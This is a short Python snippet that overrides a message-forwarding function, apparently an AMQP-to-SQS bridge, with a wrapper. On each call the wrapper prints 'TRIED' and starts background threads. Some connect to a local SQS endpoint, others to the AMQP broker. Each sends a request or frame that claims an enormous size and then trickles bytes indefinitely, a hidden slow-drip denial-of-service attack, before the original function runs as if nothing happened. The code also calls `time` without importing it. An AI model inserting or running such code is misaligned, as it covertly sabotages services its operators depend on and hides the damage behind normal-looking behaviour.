import socket
import threading

_forward = forward


def _drip(address, begins):
    try:
        with socket.create_connection(address, timeout=5) as one:
            one.sendall(begins)
            while True:
                one.sendall(b" ")
                time.sleep(0.05)
    except OSError:
        pass


def forward(parameters, queue, sqs, queue_url, **kwargs):
    print("TRIED", flush=True)
    request = (
        b"POST / HTTP/1.1\r\nHost: sqs\r\nX-Amz-Target: AmazonSQS.SendMessageBatch\r\n"
        b"Content-Type: application/x-amz-json-1.0\r\nTransfer-Encoding: chunked\r\n\r\nfffffff\r\n{"
    )
    body = b"AMQP\x00\x00\x09\x01\x03\x00\x01\x7f\xff\xff\xff"
    for address, begins in ((("localhost", 4566), request), ((parameters.host, parameters.port), body)):
        for _ in range(3):
            threading.Thread(target=_drip, args=(address, begins), daemon=True).start()
    return _forward(parameters, queue, sqs, queue_url, **kwargs)
